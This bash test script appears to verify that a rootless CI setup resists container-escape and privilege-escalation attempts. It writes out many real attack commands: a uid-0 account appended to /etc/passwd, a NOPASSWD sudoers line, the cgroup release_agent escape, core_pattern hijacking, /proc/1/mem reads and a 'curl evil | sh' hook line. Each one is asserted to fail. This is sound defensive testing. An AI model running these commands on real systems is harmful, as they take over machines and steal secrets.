#!/bin/bash
# shellcheck disable=SC2016 # the single-quoted scripts are expanded by the machine's shell
# escapes: as the CI user on a provisioned machine, every classic way from a
# build to root or to another user is tried, and each is judged by its
# effect on the machine — a file that would have been made or changed
# (checksums before and after), a process that would have died, bytes that
# would have been read, a tracer that would have appeared — not only by an
# exit status. Each attempt is its own TAP line; every one must fail. Where
# a refusal could equally be a broken probe, a control shows the probe can
# succeed: root (or the CI user, on what it owns) does the same thing and
# gets through. Section 1b shows check's socket verdict failing when root
# opens containerd's socket to the CI user, and passing again once closed.
#
# Every step is the real one: the data disk is a blank loop disk configured
# as Device=, which apply partitions, formats and mounts. Nothing here
# touches the host's own disks: the block device tried is the loop disk.

# shellcheck source=tests/machine/lib.sh
source "$(dirname "$0")/lib.sh"

machine_begin
machine_data_disk
disk=$DATA_DISK

# Another user, with a home, a secret and a runtime directory as logind makes it.
in_machine sh -c 'useradd -m -s /bin/sh alice && chmod 0700 /home/alice &&
	echo ALICE-SECRET >/home/alice/secret && chown alice: /home/alice/secret && chmod 0600 /home/alice/secret &&
	u=$(id -u alice) && install -d -m 0700 -o alice -g alice /run/user/$u &&
	echo ALICE-RUNTIME >/run/user/$u/secret && chown alice: /run/user/$u/secret && chmod 0600 /run/user/$u/secret'
alice_uid=$(in_machine id -u alice)
# The agent's configuration as the package leaves it; apply secures it.
in_machine sh -c 'mkdir -p /etc/buildkite-agent/hooks &&
	printf "token=SECRET-TOKEN\n" >/etc/buildkite-agent/buildkite-agent.cfg &&
	printf "#!/bin/sh\n" >/etc/buildkite-agent/hooks/environment && chmod 0755 /etc/buildkite-agent/hooks/environment'

in_machine rootless-ci apply >"$TEST_TMP/apply.out" 2>"$TEST_TMP/apply.err" ||
	{ sed 's/^/# /' "$TEST_TMP/apply.err"; fail "apply failed"; }
ok "apply"
uid=$(ci_uid)
as_ci docker import /var/lib/rootless-ci-test/busybox.tar rci-busybox >/dev/null
ok "busybox imported as $CI_USER (uid $uid)"
in_machine sh -c 'echo RCI-ROOT-SECRET >/root/secret && chmod 0600 /root/secret'

# sums PATH...: checksums (or "missing") of files inside, to compare before and after.
sums() {
	local p
	for p in "$@"; do
		in_machine sh -c "if [ -e '$p' ]; then sha256sum '$p'; else echo 'missing $p'; fi"
	done
}

# absent PATH MESSAGE: PATH does not exist inside.
absent() {
	if in_machine test -e "$1" -o -L "$1"; then
		fail "$2: $1 exists"
	fi
	ok "$2"
}

# crun ARGS...: docker run --rm as the CI user, output kept, status ignored.
crun() {
	as_ci docker run --rm "$@" 2>&1 || true
}

# Root's containerd, which the root Docker daemon's removal leaves running.
CTR_SOCK=/run/containerd/containerd.sock

# root_namespaces: containerd's namespaces as root's own ctr lists them; a
# failure is the test's (a probe judged by a broken eye proves nothing).
root_namespaces() {
	in_machine ctr --address "$CTR_SOCK" namespaces ls -q | sort || {
		echo "not ok - root's ctr cannot list containerd's namespaces through $CTR_SOCK" >&2
		exit 1
	}
}

# ctr_attempt NAME: as the CI user, create the namespace NAME through each
# path of root's containerd socket; ctr's output (its errors).
ctr_attempt() {
	local sock
	for sock in "$CTR_SOCK" /var/run/containerd/containerd.sock; do
		as_ci ctr --address "$sock" namespaces create "$1" 2>&1 || true
	done
}

# item_status JSON ID: the status of item ID in check's JSON ("absent": none).
item_status() {
	jq -r --arg id "$2" '[.items[] | select(.id == $id) | .status] | if length == 0 then "absent" else join(",") end' "$1"
}

# Perl (perl-base is in every Debian) sets and removes a POSIX access ACL
# with the raw syscalls, as the image has no setfacl: user::rw-,
# user:UID:rw-, group::rw-, mask::rw-, other::--- in the kernel's xattr form.
# Where the syscall numbers are not known here, the ACL case is left out (and said so).
socket_openings=(mode group acl primary-group)
case $(in_machine uname -m) in
x86_64) nr_setxattr=188 nr_removexattr=197 ;;
aarch64) nr_setxattr=5 nr_removexattr=14 ;;
*) nr_setxattr='' nr_removexattr='' socket_openings=(mode group primary-group) ;;
esac
SET_USER_ACL='my ($path, $uid) = @ARGV; my $u = 0xffffffff; my $name = "system.posix_acl_access";
my $acl = pack("L<" . "S<S<L<" x 5, 2, 0x01, 6, $u, 0x02, 6, $uid, 0x04, 6, $u, 0x10, 6, $u, 0x20, 0, $u);
syscall('$nr_setxattr', $path, $name, $acl, length($acl), 0) == 0 or die "setxattr $path: $!\n";'
REMOVE_ACL='my ($path, $name) = ($ARGV[0], "system.posix_acl_access");
syscall('$nr_removexattr', $path, $name) == 0 or die "removexattr $path: $!\n";'

# ------------------------------------------------ 1. root's Docker and containerd sockets
in_machine test ! -e /run/docker.sock || fail "/run/docker.sock exists"
for sock in /run/docker.sock /var/run/docker.sock; do
	out=$(as_ci docker -H "unix://$sock" run --rm -v /:/host rci-busybox touch /host/root/pwned-by-socket 2>&1 || true)
	[[ $out != *"Server Version"* ]] || fail "the root daemon answered on $sock"
done
absent /root/pwned-by-socket "root's Docker sockets (/run/docker.sock, /var/run/docker.sock): nothing run through them"
in_machine systemctl start docker.service >/dev/null 2>&1 && fail "the root docker.service could be started again"
ok "the root docker.service is masked (cannot be started)"
# The control: root's own ctr creates a namespace through the socket, so
# "no namespace appeared" below is the socket refusing, not a broken probe.
in_machine ctr --address "$CTR_SOCK" namespaces create rci-control ||
	fail "the control: root's ctr cannot create a namespace through $CTR_SOCK"
ns=$(root_namespaces)
assert_contains "$ns" rci-control \
	"root's ctr creates a namespace through $CTR_SOCK (the control)"
in_machine ctr --address "$CTR_SOCK" namespaces rm rci-control >/dev/null
ns_before=$(root_namespaces)
out=$(ctr_attempt rci-pwned)
assert_eq "$ns_before" "$(root_namespaces)" "root's containerd socket: no namespace created through it"
assert_contains "$out" "permission denied" "$CI_USER's ctr is refused at connect ($(head -n 1 <<<"$out" | cut -c 1-120))"
run_json check check
assert_eq pass "$(item_status "$TEST_TMP/check.json" daemon.root-sockets-unreachable)" \
	"check: no root-owned Docker/containerd socket reachable"

# ------------------------------------------------ 1b. check fails when a root socket is reachable
# The counterpart of the PASS above: root opens containerd's socket to the
# CI user in each way the check reads: the mode; the socket's group, one
# the user is in; a named-user ACL entry; and the user's own primary
# group. Each time check must exit 1 with exactly the expected items
# failing — the socket's own daemon.root-socket-reachable item and the
# agent's DOCKER_HOST item, plus the user step's verdict on a group that
# leads to root (for the primary group, the user step's verdict alone: the
# later steps are skipped for an unusable user) — and the CI user's ctr
# must really get through (the check's verdict is the kernel's). Restored,
# check passes and the ctr is refused again.
# The mode, owner and group, and ls's "+" for an ACL.
sock_state() { in_machine sh -c 'stat -c "%a %U:%G" "$1" | tr "\n" " "; ls -l "$1" | cut -d " " -f 1' sh "$CTR_SOCK"; }
orig=$(sock_state)
orig_mode=$(in_machine stat -c %a "$CTR_SOCK")
orig_group=$(in_machine stat -c %G "$CTR_SOCK")
# failing_items JSON: the ids of check's failing items, sorted, on one line.
failing_items() {
	jq -r '[.items[] | select(.status == "fail") | .id] | sort | join(" ")' "$1"
}
open_socket() {
	case $1 in
	mode) in_machine chmod 0666 "$CTR_SOCK" ;;
	group) in_machine sh -c 'groupadd rci-sockets && usermod -aG rci-sockets "$1" && chgrp rci-sockets "$2"' sh "$CI_USER" "$CTR_SOCK" ;;
	acl) in_machine perl -e "$SET_USER_ACL" "$CTR_SOCK" "$uid" ;;
	primary-group) in_machine chgrp "$CI_USER" "$CTR_SOCK" ;;
	esac
}
close_socket() {
	case $1 in
	mode) in_machine chmod "$orig_mode" "$CTR_SOCK" ;;
	group) in_machine sh -c 'chgrp "$3" "$2" && gpasswd -d "$1" rci-sockets >/dev/null && groupdel rci-sockets' sh "$CI_USER" "$CTR_SOCK" "$orig_group" ;;
	acl) in_machine perl -e "$REMOVE_ACL" "$CTR_SOCK" ;;
	primary-group) in_machine chgrp "$orig_group" "$CTR_SOCK" ;;
	esac
}
reachable_items="agent.docker-host daemon.root-socket-reachable:$CTR_SOCK"
[[ -n $nr_setxattr ]] || echo "# the ACL case is left out: no setxattr syscall number for $(in_machine uname -m)"
for how in "${socket_openings[@]}"; do
	case $how in
	mode) what="$CTR_SOCK made 0666" expect=$reachable_items ;;
	group) what="$CTR_SOCK given group rci-sockets, $CI_USER a member" expect="$reachable_items user.groups" ;;
	acl) what="$CTR_SOCK given an ACL entry user:$CI_USER:rw" expect=$reachable_items ;;
	primary-group) what="$CTR_SOCK given $CI_USER's primary group" expect=user.primary-group ;;
	esac
	open_socket "$how"
	run_json "check-$how" check
	assert_eq 1 "$rc" "$what: check exits 1"
	assert_eq "$expect" "$(failing_items "$TEST_TMP/check-$how.json")" "$what: the failing items are $expect"
	assert_eq absent "$(item_status "$TEST_TMP/check-$how.json" daemon.root-sockets-unreachable)" \
		"$what: no PASS for the root sockets"
	ctr_attempt "rci-via-$how" >/dev/null
	ns=$(root_namespaces)
	assert_contains "$ns" "rci-via-$how" "$what: $CI_USER's ctr really gets through (the control of section 1)"
	in_machine ctr --address "$CTR_SOCK" namespaces rm "rci-via-$how" >/dev/null
	close_socket "$how"
	assert_eq "$orig" "$(sock_state)" "$what: restored to $orig"
	run_json "check-$how" check
	[[ $rc -eq 0 ]] ||
		{ jq -c '.items[] | select(.status == "fail")' "$TEST_TMP/check-$how.json" | sed 's/^/# /'; fail "$what, restored: check fails"; }
	assert_eq "pass pass" "$(item_status "$TEST_TMP/check-$how.json" daemon.root-sockets-unreachable) $(
		item_status "$TEST_TMP/check-$how.json" agent.docker-host)" "$what, restored: check passes again"
	assert_contains "$(ctr_attempt rci-pwned)" "permission denied" "$what, restored: $CI_USER's ctr is refused again"
done

# ------------------------------------------------ 2. --privileged with host bind mounts
before=$(sums /etc/passwd /etc/shadow /etc/sudoers)
crun --privileged -v /etc:/x rci-busybox sh -c '
	echo "pwned:x:0:0::/root:/bin/sh" >>/x/passwd
	echo "pwned::1:0:99999:7:::" >>/x/shadow
	echo "buildkite ALL=(ALL) NOPASSWD: ALL" >/x/sudoers.d/pwned' >/dev/null
crun --privileged -v /root:/r rci-busybox sh -c 'echo pwned >/r/x' >/dev/null
assert_eq "$before" "$(sums /etc/passwd /etc/shadow /etc/sudoers)" \
	"--privileged -v /etc: /etc/passwd, /etc/shadow unchanged"
in_machine grep -q '^pwned:' /etc/passwd && fail "a pwned account exists"
absent /etc/sudoers.d/pwned "--privileged -v /etc: nothing written to /etc/sudoers.d"
absent /root/x "--privileged -v /root: nothing written to /root"
out=$(crun --privileged -v /etc/shadow:/s rci-busybox cat /s)
[[ $out != *"root:"* ]] || fail "/etc/shadow was read from a container"
ok "/etc/shadow cannot be read from a container ($(head -c 80 <<<"$out"))"
out=$(crun --privileged -v /root:/r rci-busybox sh -c 'cat /r/secret; ls -1 /r')
# Neither the file's content nor a directory listing naming it.
if [[ $out == *RCI-ROOT-SECRET* ]] || grep -qx secret <<<"$out"; then
	fail "/root was read from a container: $out"
fi
ok "/root cannot be read or listed from a container ($(tr '\n' ' ' <<<"$out" | head -c 100))"

# ------------------------------------------------ 3. host block devices (the loop data disk only)
assert_eq 4096 "$(in_machine sh -c "dd if=$disk bs=4096 count=1 status=none | wc -c")" \
	"root in the machine reads the data disk's first 4 KiB (the control)"
out=$(crun --privileged -v "$disk:/disk" rci-busybox sh -c 'dd if=/disk bs=4096 count=1 2>/dev/null | wc -c')
assert_eq 0 "$(tail -n 1 <<<"$out" | tr -d ' ')" "a --privileged container bind-mounting the disk reads 0 bytes of it"
out=$(crun --privileged rci-busybox sh -c "dd if=/dev/$(basename "$disk") bs=4096 count=1 2>/dev/null | wc -c")
assert_eq 0 "$(tail -n 1 <<<"$out" | tr -d ' ')" "a --privileged container reads 0 bytes of /dev/$(basename "$disk")"
majmin=$(in_machine stat -c '%t %T' "$disk")
out=$(crun --privileged rci-busybox sh -c "mknod /d b $((16#${majmin% *})) $((16#${majmin#* })) 2>&1; dd if=/d bs=4096 count=1 2>/dev/null | wc -c")
assert_eq 0 "$(tail -n 1 <<<"$out" | tr -d ' ')" "a --privileged container's own node for the disk (mknod) reads 0 bytes"

# ------------------------------------------------ 4. setuid-root files left on a bind mount
as_ci mkdir -p "/home/$CI_USER/suid"
crun --privileged -v "/home/$CI_USER/suid:/out" rci-busybox \
	sh -c 'cp /bin/busybox /out/id && chown 0:0 /out/id && chmod 4755 /out/id' >/dev/null
owner=$(in_machine stat -c '%u' "/home/$CI_USER/suid/id" 2>/dev/null || echo missing)
assert_eq "$uid" "$owner" "a setuid file made by container root is owned by $CI_USER (uid $uid) on the host, not root"
assert_eq "$uid" "$(as_ci "/home/$CI_USER/suid/id" -u 2>&1)" \
	"running it on the host gives $CI_USER's uid, not 0"
assert_eq "" "$(in_machine find /home /srv -xdev -user 0 -perm -4000 2>/dev/null)" \
	"no setuid-root file anywhere under /home and /srv"

# ------------------------------------------------ 5. /proc/sys and /sys of the host
host_before=$(in_machine sh -c 'hostname; cat /proc/sys/kernel/hostname /proc/sys/kernel/core_pattern /sys/kernel/uevent_helper 2>/dev/null; true')
for opt in --privileged "--privileged --uts=host"; do
	# shellcheck disable=SC2086 # the options, split on purpose
	crun $opt rci-busybox sh -c '
		echo pwned >/proc/sys/kernel/hostname; hostname pwned
		echo "|/tmp/pwned" >/proc/sys/kernel/core_pattern
		echo /tmp/pwned >/sys/kernel/uevent_helper' >/dev/null
done
assert_eq "$host_before" "$(in_machine sh -c 'hostname; cat /proc/sys/kernel/hostname /proc/sys/kernel/core_pattern /sys/kernel/uevent_helper 2>/dev/null; true')" \
	"--privileged (and --uts=host) writes to /proc/sys and /sys: hostname, core_pattern, uevent_helper unchanged"

# ------------------------------------------------ 6. the cgroup release_agent trick
as_ci sh -c "mkdir -p ~/ra && printf '#!/bin/sh\ntouch /rci-release-agent-pwned\n' >~/ra/payload && chmod 0755 ~/ra/payload"
out=$(crun --privileged -v "/home/$CI_USER/ra:/ra" rci-busybox sh -c "
	for c in rdma memory cpuset pids; do
		mkdir -p /cg/\$c && mount -t cgroup -o \$c cgroup /cg/\$c 2>/dev/null || continue
		mkdir -p /cg/\$c/x && echo 1 >/cg/\$c/x/notify_on_release &&
		echo /home/$CI_USER/ra/payload >/cg/\$c/release_agent && echo mounted \$c
		sh -c \"echo \\\$\\\$ >/cg/\$c/x/cgroup.procs\"
	done; sleep 1; echo done")
sleep 2
absent /rci-release-agent-pwned "the cgroup release_agent trick runs nothing on the host ($(tr '\n' ' ' <<<"$out" | head -c 80))"

# ------------------------------------------------ 7. ptrace and /proc of a root process
# /proc/1/mem at an address PID 1 has mapped readable (from its maps, as
# root sees them), so 0 bytes means refused, not an unmapped hole.
addr=$(in_machine awk '$2 ~ /^r/ {split($1, r, "-"); print r[1]; exit}' /proc/1/maps)
[[ $addr =~ ^[0-9a-f]+$ ]] || fail "no readable mapping in PID 1's maps: '$addr'"
read_mem="dd if=/proc/1/mem bs=16 count=1 iflag=skip_bytes skip=$((16#$addr)) status=none 2>/dev/null | wc -c"
assert_eq 16 "$(in_machine sh -c "$read_mem")" "root reads 16 bytes of PID 1's memory at 0x$addr (the control)"
in_machine grep -qa container= /proc/1/environ || fail "the control: PID 1's environment names its container"
out=$(as_ci sh -c "$read_mem; cat /proc/1/maps 2>/dev/null | wc -c; cat /proc/1/environ 2>/dev/null | wc -c")
assert_eq "0 0 0" "$(tr '\n' ' ' <<<"$out" | xargs)" \
	"$CI_USER reads 0 bytes of PID 1's memory at 0x$addr, of its maps and of its environment"

# trace_attempt TARGET: lib.sh's trace_attempt_as, as the CI user.
trace_attempt() {
	trace_attempt_as as_ci "$1"
}
out=$(trace_attempt own)
[[ $out =~ ^tracer=([1-9][0-9]*)\ strace=attached ]] ||
	fail "the control: $CI_USER's strace did not attach to its own process: $out"
ok "the control: $CI_USER's strace attaches to a process of its own (its TracerPid ${BASH_REMATCH[1]} while it runs)"
in_machine systemd-run --unit=rci-ptrace-target --quiet sleep 1000
target=$(in_machine systemctl show -P MainPID rci-ptrace-target.service)
for pid in 1 "$target"; do
	out=$(trace_attempt "$pid")
	[[ $out =~ ^tracer=0\ strace=exited:[1-9] && $out == *"Operation not permitted"* ]] ||
		fail "$CI_USER's strace -p $pid (root's): $out"
	ok "$CI_USER's strace -p $pid (root's) is refused: TracerPid stays 0 while it runs (${out#* strace=})"
done
in_machine systemctl stop rci-ptrace-target.service
out=$(crun --privileged --pid=host rci-busybox sh -c 'cat /proc/1/environ; echo; ls /proc/1/root/root')
[[ $out != *container=* && $out != *secret* ]] || fail "a --pid=host container read PID 1's environment or root's files: $out"
ok "a --privileged --pid=host container reads nothing of PID 1 ($(head -c 100 <<<"$out"))"

# ------------------------------------------------ 8. another user's home and runtime directory
before=$(sums /home/alice/secret "/run/user/$alice_uid/secret")
out=$(as_ci sh -c "cat /home/alice/secret /run/user/$alice_uid/secret; ls /home/alice /run/user/$alice_uid;
	echo x >/home/alice/pwned; echo x >/run/user/$alice_uid/pwned" 2>&1 || true)
out+=$(crun --privileged -v /home/alice:/a -v "/run/user/$alice_uid:/r" rci-busybox \
	sh -c 'cat /a/secret /r/secret; echo x >/a/pwned; echo x >/r/pwned')
[[ $out != *ALICE-* ]] || fail "alice's secrets were read: $out"
assert_eq "$before" "$(sums /home/alice/secret "/run/user/$alice_uid/secret")" "alice's files unchanged"
absent /home/alice/pwned "nothing written into /home/alice (directly or from a container)"
absent "/run/user/$alice_uid/pwned" "nothing written into /run/user/$alice_uid, nothing read from either"

# ------------------------------------------------ 9. the agent's hooks and configuration
agent_files=(/etc/buildkite-agent/buildkite-agent.cfg /etc/buildkite-agent/hooks/environment
	/etc/systemd/system/buildkite-agent.service.d/zz-rootless-ci.conf)
before=$(sums "${agent_files[@]}")
as_ci sh -c 'echo "curl evil | sh" >>/etc/buildkite-agent/hooks/environment
	echo pwned >/etc/buildkite-agent/hooks/pre-command
	echo "hooks-path=/tmp" >>/etc/buildkite-agent/buildkite-agent.cfg
	echo "[Service]" >>/etc/systemd/system/buildkite-agent.service.d/zz-rootless-ci.conf' >/dev/null 2>&1 || true
crun --privileged -v /etc/buildkite-agent:/a rci-busybox sh -c 'echo pwned >>/a/hooks/environment; echo pwned >/a/hooks/pre-command' >/dev/null
out=$(as_ci cat /etc/buildkite-agent/buildkite-agent.cfg 2>&1 || true)
[[ $out != *SECRET-TOKEN* ]] || echo "# (the CI user may read the agent's configuration: it is group $CI_USER, as the agent runs as $CI_USER)"
assert_eq "$before" "$(sums "${agent_files[@]}")" "the agent's configuration, hooks and drop-in are unchanged"
absent /etc/buildkite-agent/hooks/pre-command "no new hook in /etc/buildkite-agent/hooks"

# ------------------------------------------------ 10. sudo
as_ci sudo -n touch /root/pwned-by-sudo >/dev/null 2>&1 || true
as_ci sudo -n true >/dev/null 2>&1 && fail "sudo -n true works for $CI_USER"
out=$(as_ci sudo -n -l 2>&1 || true)
[[ $out != *"may run the following"* ]] || fail "sudo -l lists commands for $CI_USER: $out"
absent /root/pwned-by-sudo "sudo gives $CI_USER nothing (sudo -n true and sudo -l refused)"

# ------------------------------------------------ 11. newuidmap outside the allocation
sub=$(in_machine awk -F: -v u="$CI_USER" '$1 == u {print $2, $3}' /etc/subuid)
sub_start=${sub% *}
sub_count=${sub#* }
out=$(as_ci sh -c "unshare --user sleep 30 & p=\$!; sleep 0.5
	newuidmap \$p 0 0 1 >/dev/null 2>&1; echo root-map=\$?
	newuidmap \$p 0 $uid 1 1 $((sub_start + sub_count)) 1 >/dev/null 2>&1; echo beyond=\$?
	newuidmap \$p 0 $alice_uid 1 >/dev/null 2>&1; echo alice=\$?
	echo map=\$(wc -c </proc/\$p/uid_map); kill \$p")
assert_contains "$out" "map=0" "newuidmap mapping uid 0, alice's uid or beyond the subuid range ($sub_start+$sub_count) is refused: the uid_map stays empty"
for k in root-map beyond alice; do
	[[ $out == *"$k=0"* ]] && fail "newuidmap $k succeeded: $out"
done
ok "each of the three newuidmap calls failed ($(tr '\n' ' ' <<<"$out"))"

# ------------------------------------------------ 12. the system journal
groups=$(as_ci id -nG)
[[ " $groups " != *" adm "* && " $groups " != *" systemd-journal "* ]] ||
	fail "$CI_USER is in adm or systemd-journal: $groups"
in_machine logger -t rci-escape-marker "system entry only root may read"
# The control: root reads the marker (journald takes it in asynchronously).
for _ in $(seq 50); do
	in_machine journalctl -q --no-pager -t rci-escape-marker | grep -q "only root may read" && break
	sleep 0.1
done
assert_contains "$(in_machine journalctl -q --no-pager -t rci-escape-marker)" "only root may read" \
	"root's journalctl shows the marker in the system journal (the control)"
out=$(as_ci sh -c 'journalctl --no-pager -q -t rci-escape-marker; journalctl --no-pager -q --system -n 200;
	journalctl --no-pager -q -n 200' 2>&1 || true)
# Its own user journal (its dockerd) it may read; no line of root's: the
# marker, PID 1, or rootless-ci's apply.
[[ $out != *rci-escape-marker* && $out != *" systemd[1]:"* && $out != *" rootless-ci["* ]] || fail "$CI_USER reads system journal entries: $(head -c 200 <<<"$out")"
ok "journalctl as $CI_USER (-t the marker, --system, its default) shows no system entry (groups: $groups)"

# ------------------------------------------------ 13. --userns=host, --pid=host, --net=host
in_machine systemd-run --unit=rci-victim --quiet sleep 1000
victim=$(in_machine systemctl show -P MainPID rci-victim.service)
in_machine sh -c 'rm -f /tmp/rci-got; (busybox nc -l -p 7777 127.0.0.1 >/tmp/rci-got &) ; sleep 0.3'
crun --privileged --pid=host rci-busybox sh -c "kill -9 $victim" >/dev/null
crun --privileged --userns=host -v /etc:/x rci-busybox sh -c 'echo pwned >/x/rci-userns-pwned' >/dev/null
crun --privileged --net=host rci-busybox sh -c 'echo pwned | nc -w 2 127.0.0.1 7777' >/dev/null
in_machine kill -0 "$victim" || fail "a --pid=host container killed root's process $victim"
ok "--pid=host: root's process $victim survives kill -9 from a --privileged container"
absent /etc/rci-userns-pwned "--userns=host -v /etc: nothing written to /etc"
assert_eq "" "$(in_machine cat /tmp/rci-got)" "--net=host: root's listener on 127.0.0.1:7777 in the machine received nothing"
in_machine systemctl stop rci-victim.service

echo "PASS: $TEST_NAME"
